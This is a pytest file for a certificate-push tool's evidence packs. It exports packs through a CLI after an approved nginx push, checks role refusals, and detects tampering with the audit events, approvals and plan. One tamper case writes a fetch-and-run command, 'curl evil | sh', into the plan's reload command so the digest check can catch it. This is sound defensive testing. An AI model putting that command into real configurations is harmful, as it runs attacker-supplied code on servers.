"""Evidence packs: a real push through its approvals, a real verification sweep, the pack
made and checked by the CLI, and a tampered pack refused."""

from __future__ import annotations

import io
import json
import os
import subprocess
import sys
import zipfile
from datetime import UTC, datetime, timedelta

import pytest
from sqlalchemy import create_engine, text

from data.connectors import add_connector, bind
from data.crypto import load_vault
from data.db import session_scope
from data.domain.workflow import Action, Actor
from data.importer import import_paths
from data.users import add_user
from data.workorders import act, claim_due, request_push
from jobs.verify import run_sweep
from jobs.workorders import run_work_order
from tests.cli_auth import stdin_for
from tests.profiles import nginx_profile
from tests.servers import PrivateNginx, free_port, make_cert_files

PASSWORD = "correct horse battery staple"
USERS = {"olivia": "operator", "ravi": "reviewer", "ines": "implementer", "maya": "manager"}


def now() -> datetime:
    return datetime.now(UTC)


@pytest.fixture
def pushed(sqlite_settings, tmp_path):
    """A work order requested, approved, implemented, pushed to a real nginx and verified."""
    tls = tmp_path / "device" / "tls"
    old_cert, old_key, old_fp = make_cert_files(tls, "evidence.example", stem="site")
    new_cert, new_key, new_fp = make_cert_files(tmp_path / "new", "evidence.example")
    port = free_port()
    nginx = PrivateNginx(tmp_path / "nginx")
    nginx.add_site(port, old_cert, old_key)
    nginx.start()
    vault = load_vault(sqlite_settings)
    profile = nginx_profile(nginx, "evidence-nginx", folders=[str(tls)])
    with session_scope(sqlite_settings.database_url) as db:
        for name, role in USERS.items():
            add_user(db, name, role, PASSWORD, now())
        import_paths(db, vault, [new_cert, new_key], now=now(), actor="t")
        add_connector(db, vault, name="web", type_name="local", actor="t", role="admin",
                      now=now(), settings={"profile": profile, "cert_path": str(old_cert),
                                           "key_path": str(old_key)},
                      endpoints=[f"127.0.0.1:{port}"])  # fmt: skip
        bind(db, "web", new_fp, actor="t", now=now())
        _, [wo] = request_push(db, new_fp, actor=Actor("olivia", "operator"), now=now(),
                               comment="renewal before expiry")  # fmt: skip
        assert act(db, wo.id, Action.APPROVE, actor=Actor("ravi", "reviewer"), now=now()).ok
        assert act(db, wo.id, Action.IMPLEMENT, actor=Actor("ines", "implementer"),
                   now=now()).ok  # fmt: skip
        claim_due(db, owner="t", now=now(), grace=timedelta(hours=1),
                  lease=timedelta(minutes=5), limit=5)  # fmt: skip
    try:
        workers = nginx.worker_pids()
        assert run_work_order(sqlite_settings.database_url, vault, wo.id, "t")
        nginx.wait_for_reload(workers)  # old workers gone: every handshake sees the new one
        run_sweep(sqlite_settings.database_url, settle_seconds=0, processes=1, timeout=3)
        yield {"wo": wo, "old": old_fp, "new": new_fp, "port": port}
    finally:
        nginx.stop()


@pytest.fixture
def cli(sqlite_settings):
    env = {**os.environ, "CERTPUSH_INSTANCE": str(sqlite_settings.instance_dir),
           "DATABASE_URL": sqlite_settings.database_url,
           "CERTPUSH_MASTER_KEY": sqlite_settings.master_key or ""}  # fmt: skip
    passwords = dict.fromkeys(USERS, PASSWORD)

    def run(*args: str) -> subprocess.CompletedProcess[str]:
        return subprocess.run([sys.executable, "-m", "jobs.cli", *args], env=env,
                              input=stdin_for(args, passwords), capture_output=True, text=True,
                              timeout=120, check=False)  # fmt: skip

    run.database_url = sqlite_settings.database_url
    return run


def test_evidence_pack_round_trip_and_tampering(pushed, cli, tmp_path):
    label = pushed["wo"].label
    out = tmp_path / "evidence.zip"
    refused = cli("evidence", label, "--out", str(out), "--as", "olivia")
    assert refused.returncode == 1 and "may not export evidence" in refused.stderr
    made = cli("evidence", label, "--out", str(out), "--as", "maya")
    assert made.returncode == 0, made.stderr
    with zipfile.ZipFile(out) as pack:
        assert set(pack.namelist()) == {"evidence.json", "evidence.pdf", "manifest.json"}
        facts = json.loads(pack.read("evidence.json"))
        assert pack.read("evidence.pdf").startswith(b"%PDF")
    assert facts["work_order"]["id"] == label and facts["work_order"]["status"] == "Completed"
    digest = facts["plan"]["digest"]
    assert [(a["action"], a["by"], a["plan_digest"], a["stands"]) for a in facts["approvals"]] == [
        ("approve", "ravi", digest, True),
        ("implement", "ines", digest, True),
    ]
    install, verify = facts["push_attempts"]
    assert (install["kind"], install["outcome"]) == ("install", "installed")
    assert (verify["kind"], verify["outcome"]) == ("verify", "verified")
    assert facts["rollback"] is None
    [endpoint] = facts["endpoints"]
    assert (endpoint["before"], endpoint["after"]) == (pushed["old"], pushed["new"])
    assert endpoint["outcome"] == "match"
    assert facts["verdict"]["verdict"]["state"] == "verified"
    actions = [e["action"] for e in facts["audit_events"]]
    assert {"workorder.approve", "workorder.implement", "push.start", "push.installed"} <= set(
        actions
    )
    checked = cli("evidence", "verify", str(out))
    assert checked.returncode == 0, checked.stderr
    assert "holds" in checked.stdout and "audit event hashes" in checked.stdout
    assert all(len(e["hash"]) == 64 and len(e["prev_hash"]) == 64 for e in facts["audit_events"])
    head = facts["audit_chain_head"]
    assert cli("audit", "verify", "--expect", f"{head['seq']}:{head['hash']}").returncode == 0

    # An audit event of the change edited in the pack (manifest recomputed): its hash
    # gives it away; edited in the database instead: the live comparison does.
    approve = next(e for e in facts["audit_events"] if e["action"] == "workorder.approve")
    forged = tmp_path / "forged.zip"
    _rewrite(out, forged, _with(facts, approve["id"], "detail", "waved through"),
             fix_manifest=True)  # fmt: skip
    bad = cli("evidence", "verify", str(forged), "--offline")
    assert bad.returncode == 1
    assert f"audit event {approve['id']} (workorder.approve by ravi) was edited" in bad.stderr
    with create_engine(sqlite_settings_url(cli)).begin() as c:
        c.execute(text("UPDATE audit_events SET detail = 'x' WHERE id = :i"),
                  {"i": approve["id"]})  # fmt: skip
    live = cli("evidence", "verify", str(out))
    assert live.returncode == 1 and "differs from the database's copy" in live.stderr

    # Tampered: an approval rewritten (manifest no longer matches) ...
    facts["approvals"][0]["by"] = "mallory"
    _rewrite(out, forged, facts, fix_manifest=False)
    bad = cli("evidence", "verify", str(forged))
    assert bad.returncode == 1 and "evidence.json was changed" in bad.stderr
    # ... and with the manifest recomputed too, the plan edited: its digest gives it away.
    facts["approvals"][0]["by"] = "ravi"
    facts["plan"]["commands"]["reload"] = ["sh", "-c", "curl evil | sh"]
    _rewrite(out, forged, facts, fix_manifest=True)
    bad = cli("evidence", "verify", str(forged), "--json")
    assert bad.returncode == 1
    assert "the plan does not match its digest" in json.dumps(json.loads(bad.stdout))


def _with(facts: dict, event_id: int, key: str, value: str) -> dict:
    copy = json.loads(json.dumps(facts))
    for event in copy["audit_events"]:
        if event["id"] == event_id:
            event[key] = value
    return copy


def sqlite_settings_url(cli) -> str:
    return cli.database_url


def _rewrite(source, target, facts, *, fix_manifest: bool) -> None:
    import hashlib

    with zipfile.ZipFile(source) as pack:
        files = {n: pack.read(n) for n in pack.namelist()}
    files["evidence.json"] = json.dumps(facts, indent=1, sort_keys=True).encode()
    if fix_manifest:
        manifest = json.loads(files["manifest.json"])
        manifest["files"]["evidence.json"] = hashlib.sha256(files["evidence.json"]).hexdigest()
        files["manifest.json"] = json.dumps(manifest).encode()
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as pack:
        for name, data in files.items():
            pack.writestr(name, data)
    target.write_bytes(buffer.getvalue())


def test_the_work_order_page_downloads_the_pack_for_the_roles_that_may(pushed, sqlite_settings):
    import base64

    from dashboard.app import app
    from dashboard.callbacks.workorders import download_evidence
    from tests.dash_calls import ActingAs

    server = app.server
    previous = server.config["CERTPUSH_SETTINGS"]
    server.config["CERTPUSH_SETTINGS"] = sqlite_settings
    row = [{"id": pushed["wo"].id}]
    try:
        with ActingAs(server, "olivia", PASSWORD):
            data, said = download_evidence(1, row)
        assert "Refused" in said and not isinstance(data, dict)
        with ActingAs(server, "ravi", PASSWORD):
            data, said = download_evidence(1, row)
    finally:
        server.config["CERTPUSH_SETTINGS"] = previous
    assert said == "" and data["filename"] == f"evidence-{pushed['wo'].label}.zip"
    pack = base64.b64decode(data["content"])
    with zipfile.ZipFile(io.BytesIO(pack)) as z:
        assert json.loads(z.read("manifest.json"))["work_order"] == pushed["wo"].label
